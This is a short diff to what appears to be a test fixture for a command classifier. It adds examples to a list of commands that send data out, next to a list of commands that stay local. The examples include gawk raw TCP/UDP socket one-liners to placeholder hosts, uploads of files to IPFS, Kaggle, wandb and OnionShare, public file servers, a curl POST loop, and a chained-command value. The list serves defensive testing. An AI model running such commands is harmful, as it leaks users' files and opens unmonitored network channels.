@@ -19,6 +19,11 @@ SENDING = [
     "docker exec nc php occ user:delete push", "docker exec nc occ user:delete anna; foo user:delete",
     "docker exec nc php occ user:deleted:x", "docker exec nc php occ app:enable x",
     "while :; do curl -d x http://x.example; done",
+    "awk 'BEGIN{s=\"/inet/tcp/0/x.example/80\"; print 1 |& s}'",
+    "gawk 'BEGIN{\"/inet4/udp/0/x/53\" |& getline}'",
+    "ipfs add a.pdf", "wandb sync .", "kaggle datasets create -p .", "onionshare-cli a.pdf",
+    "linode-cli linodes list",
+    "salt '*' test.ping", "caddy file-server --listen :8000", "php -S 0.0.0.0:8000",
 ]  # fmt: skip
 STAYING = [
     "docker exec nc php occ user:delete anna",
